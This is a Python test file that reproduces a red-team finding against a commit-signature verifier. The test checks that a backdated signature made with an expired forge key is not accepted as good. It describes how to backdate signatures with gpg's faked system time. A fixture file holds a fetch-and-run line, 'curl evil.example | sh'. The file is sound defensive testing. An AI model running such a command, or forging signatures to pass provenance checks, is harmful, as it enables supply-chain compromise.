"""Red-team reproductions (red17): signatures gatekeeper calls good where git/GnuPG do not.

Each test makes its own keys in its tmp dir, signs real commits with `git commit -S`, asks git for its verdict
(`git log --format=%G?` / `git verify-commit`) as the oracle, and asserts gatekeeper does not say more than git.
They failed on main at the time of writing. (red17's second finding, a stranger's forge-signed commit meeting
`require_signature` under the default `forge_signatures: [github, gitlab]`, is that key's documented default:
docs/provenance.md says to set `[]` on GHES, self-managed GitLab and Gitea, or to require registered devices.)
"""

from __future__ import annotations

import contextlib
import datetime as dt
import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from gatekeeper.models import SignatureStatus
from gatekeeper.provenance import verify_commit
from gatekeeper.provenance.openpgp import ForgeKeys, load_openpgp_keys

S = SignatureStatus
NOW = dt.datetime.now(dt.UTC)


@contextlib.contextmanager
def _backdatable_forge_key(home: Path) -> Iterator[tuple[list[str], str, bytes]]:
    """An RSA key standing in for GitHub's previous web-flow key: made 2020-01-01, expired 2021-01-01.

    (gpg argv prefix, fingerprint, armored public key.)"""
    if shutil.which("gpg") is None or shutil.which("gpgconf") is None:
        pytest.skip("gpg is not installed")
    home.mkdir(mode=0o700)
    gpg = ["gpg", "--homedir", str(home), "--batch", "--pinentry-mode", "loopback", "--passphrase", ""]
    subprocess.run([*gpg, "--faked-system-time", "20200101T000000!", "--quick-gen-key",
                    "GitHub (web-flow commit signing) <noreply@github.com>", "rsa2048", "sign", "1y"],
                   check=True, capture_output=True)
    listing = subprocess.run([*gpg, "--with-colons", "--list-keys"], check=True, capture_output=True, text=True)
    fpr = next(line.split(":")[9] for line in listing.stdout.splitlines() if line.startswith("fpr:"))
    armored = subprocess.run([*gpg, "--armor", "--export", fpr], check=True, capture_output=True).stdout
    try:
        yield gpg, fpr, armored
    finally:
        subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "all"], capture_output=True, check=False)


def _git(repo: Path, env: dict[str, str], *args: str) -> str:
    return subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True).stdout.decode().strip()


def test_backdated_signature_by_an_expired_forge_key_is_not_good(tmp_path: Path) -> None:
    """Finding: a forge key's expiry is judged at the signature's own creation time, which the signer writes.

    GitHub's previous web-flow key (4AEE18F83AFDEB23) expired on 2024-01-16, when GitHub rotated it in its
    January 2024 credential rotation. Whoever holds that key can sign any commit today with a creation time
    before 2024-01-16 (`gpg --faked-system-time`): gatekeeper calls it GOOD "verified (github web-flow)", a
    forge signature that binds to no author. git with the same key imported says `Y` (good signature by an
    expired key) and `git verify-commit` fails — and gatekeeper's own rule (signatures.py) is that every
    validity window is judged at `now`, never at a time the signer chose.
    Here a key the test makes (expired 2021-01-01) stands in for GitHub's; the signature is made now, backdated
    to 2020-06-01.
    """
    with _backdatable_forge_key(tmp_path / "gnupg") as (gpg, fpr, armored):
        keys = ForgeKeys(load_openpgp_keys(armored, "github", "github web-flow"), ())
        (key,) = keys.openpgp
        assert key.expires is not None and key.expires < NOW.timestamp()  # the key has expired

        wrapper = tmp_path / "gpg-backdated"
        wrapper.write_text('#!/bin/sh\nexec gpg --faked-system-time 20200601T000000! "$@"\n')
        wrapper.chmod(0o755)
        repo = tmp_path / "repo"
        subprocess.run(["git", "init", "-q", str(repo)], check=True)
        env = {**os.environ, "GNUPGHOME": gpg[2], "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1",
               "GIT_AUTHOR_NAME": "Mallory", "GIT_AUTHOR_EMAIL": "mallory@example.com",
               "GIT_COMMITTER_NAME": "GitHub", "GIT_COMMITTER_EMAIL": "noreply@github.com",
               "GIT_AUTHOR_DATE": "2020-06-01T00:00:00Z", "GIT_COMMITTER_DATE": "2020-06-01T00:00:00Z"}
        (repo / "evil.py").write_text("import os\nos.system('curl evil.example | sh')\n")
        _git(repo, env, "add", "evil.py")
        _git(repo, env, "-c", f"gpg.program={wrapper}", "-c", f"user.signingkey={fpr}", "commit", "-q", "-S",
             "-m", "Update evil.py")
        raw = subprocess.run(["git", "cat-file", "commit", "HEAD"], cwd=repo, env=env, check=True,
                             capture_output=True).stdout

        # The oracle: git, with the forge key in its keyring, at the real time.
        oracle = _git(repo, env, "log", "-1", "--format=%G?")
        verify = subprocess.run(["git", "verify-commit", "HEAD"], cwd=repo, env=env, capture_output=True)
        assert oracle == "Y" and verify.returncode != 0

        info = verify_commit(raw, signers=(), now=NOW, forge=keys)
        assert info.status is not S.GOOD, (info.status, info.detail)
